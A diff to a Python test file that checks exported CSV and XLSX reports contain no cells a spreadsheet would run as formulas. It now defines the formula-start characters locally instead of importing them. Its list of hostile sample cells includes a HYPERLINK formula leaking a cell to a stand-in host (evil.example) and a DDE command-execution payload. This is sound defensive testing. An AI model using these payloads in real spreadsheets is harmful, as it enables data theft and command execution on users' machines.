@@ -17,6 +17,9 @@ from graph import accounts, audit, formats, gap_lists, reports
 from graph.store import LadybugStore
 from tests.fixtures import invoke, store_file
 
+# What a spreadsheet runs as a formula (and tab / carriage return, which some strip first): stated here,
+# not imported, so that the test does not lean on the code it checks.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
 
 pytestmark = pytest.mark.usefixtures("cheap_hashing")
@@ -28,7 +31,7 @@ def _cells(text: str) -> list[str]:
 
 def _no_formula(cells: list[str]) -> None:
     for cell in cells:
-        assert not cell.startswith(formats.FORMULA_START), f"a spreadsheet would run {cell!r}"
+        assert not cell.startswith(FORMULA_START), f"a spreadsheet would run {cell!r}"
 
 
 @pytest.fixture
@@ -101,7 +104,7 @@ def test_xlsx_reports_hold_no_formula(tmp_path: Path) -> None:
     for row in sheet.iter_rows():
         for cell in row:
             assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
-            assert not str(cell.value or "").startswith(formats.FORMULA_START)
+            assert not str(cell.value or "").startswith(FORMULA_START)
 
 
 def test_json_is_left_alone(db: str) -> None:
